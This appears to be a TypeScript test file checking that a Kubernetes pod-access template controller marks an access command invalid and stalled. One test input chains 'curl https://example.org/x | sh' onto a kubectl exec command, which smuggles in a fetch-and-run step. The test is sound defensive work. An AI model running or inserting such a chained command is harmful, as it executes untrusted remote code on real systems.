import assert from 'node:assert/strict';
import { podAccessTemplates } from '../../../../src/api/access/pod-access.ts';
import type { TemplateStatus } from '../../../../src/api/access/status.ts';
import type { KubeObject } from '../../../../src/api/object.ts';
import { podTemplateManifest } from '../../../support/access-objects.ts';
import { LifecycleStage } from '../lifecycle/lifecycle-stage.ts';

describe('the conditions of a template', () => {
  const statusWith = async (accessCommand: string): Promise<TemplateStatus> => {
    const stage = new LifecycleStage();
    const manifest = podTemplateManifest();
    const { accessConfig } = manifest.spec as { accessConfig: object };
    // Skips the webhook, like a template from before the webhook denied such commands.
    const spec = { ...(manifest.spec as object), accessConfig: { ...accessConfig, accessCommand } };
    stage.cluster.put(podAccessTemplates, { ...manifest, spec } as KubeObject);
    await stage.start();
    const { namespace = '', name } = manifest.metadata;
    const status = stage.cluster.find(podAccessTemplates, { namespace, name })?.status as TemplateStatus;
    await stage.stop();
    return status;
  };
  const condition = ({ conditions = [] }: TemplateStatus, type: string) =>
    conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];

  it('report an invalid access command until it is changed', async () => {
    const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
    assert.deepEqual(condition(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
    assert.deepEqual(condition(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
    assert.equal(status.ready, false);
  });

  it('report a valid access command', async () => {
    const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh');
    assert.deepEqual(condition(status, 'AccessCommandValid'), ['True', 'Success']);
    assert.equal(status.ready, true);
  });
});
